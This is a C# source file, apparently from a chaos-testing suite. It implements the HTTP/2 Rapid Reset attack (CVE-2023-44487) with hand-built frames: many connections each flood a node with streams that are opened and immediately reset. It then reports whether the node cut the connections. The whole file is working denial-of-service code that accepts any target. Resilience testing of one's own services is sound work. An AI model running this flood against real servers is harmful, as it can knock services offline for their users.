using System.Buffers.Binary;
using System.Net.Sockets;

namespace Muster.Chaos.Attacks;

/// <summary>Calls that are opened and reset in one breath (CVE-2023-44487), by frames of HTTP/2 made by hand.</summary>
internal static class RapidReset
{
    private const int Connections = 10, Streams = 500, Batch = 50;
    private const byte Headers = 1, Reset = 3, Settings = 4, GoAway = 7, EndHeaders = 4;
    private static readonly byte[] Preface = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])];
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(2);

    // HPACK without a table of ours: POST, http, then literals by the static table's names.
    private static readonly byte[] Head =
    [
        0x83, 0x86, 0x04, .. Text("/muster.v1.Registry/Connect"), 0x01, .. Text("localhost"), 0x0f, 0x10, .. Text("application/grpc"), 0x00, .. Text("te"), .. Text("trailers"),
    ];

    public static async Task<Outcome> PlayAsync(Target target, CancellationToken cancel)
    {
        var ends = await Task.WhenAll(Enumerable.Range(0, Connections).Select(_ => PlayOneAsync(target, cancel)));
        return new(true, $"{ends.Sum(static one => one.Sent)} of {Connections * Streams} calls could be opened and reset; the node ended {ends.Count(static one => one.Ended)} of {Connections} connections");
    }

    private static async Task<(int Sent, bool Ended)> PlayOneAsync(Target target, CancellationToken cancel)
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        await socket.ConnectAsync(target.Rpc, cancel);
        await socket.SendAsync(Preface, cancel);
        var ended = EndsAsync(socket, cancel);
        var sent = 0;
        try
        {
            for (; sent < Streams && !ended.IsCompleted; sent += Batch)
                await socket.SendAsync(Enumerable.Range(sent, Batch).SelectMany(OpenAndReset).ToArray(), cancel);
        }
        catch (SocketException)
        {
            // Hung up on: that is what EndsAsync tells.
        }

        await Task.WhenAny(ended, Task.Delay(Patience, cancel));
        var told = ended.IsCompleted;
        socket.Close();
        await ended;
        return (sent, told);
    }

    private static IEnumerable<byte> OpenAndReset(int at)
    {
        var stream = (at * 2) + 1;
        return [.. Frame(Headers, EndHeaders, stream, Head), .. Frame(Reset, 0, stream, [0, 0, 0, 8])];
    }

    /// <summary>Reads until the node says that it goes, or hangs up.</summary>
    private static async Task EndsAsync(Socket socket, CancellationToken cancel)
    {
        var (prefix, content) = (new byte[9], new byte[1 << 16]);
        try
        {
            using var line = new NetworkStream(socket, ownsSocket: false);
            do
            {
                await line.ReadExactlyAsync(prefix, cancel);
                await line.ReadExactlyAsync(content.AsMemory(0, (prefix[0] << 16) | (prefix[1] << 8) | prefix[2]), cancel);
            }
            while (prefix[3] != GoAway);
        }
        catch (Exception gone) when (gone is IOException or ObjectDisposedException)
        {
            // Hung up, by the node or by us.
        }
    }

    private static byte[] Frame(byte kind, byte flags, int stream, byte[] content)
    {
        var frame = new byte[9 + content.Length];
        (frame[1], frame[2], frame[3], frame[4]) = ((byte)(content.Length >> 8), (byte)content.Length, kind, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        content.CopyTo(frame, 9);
        return frame;
    }

    private static byte[] Text(string text) => [(byte)text.Length, .. System.Text.Encoding.ASCII.GetBytes(text)];
}
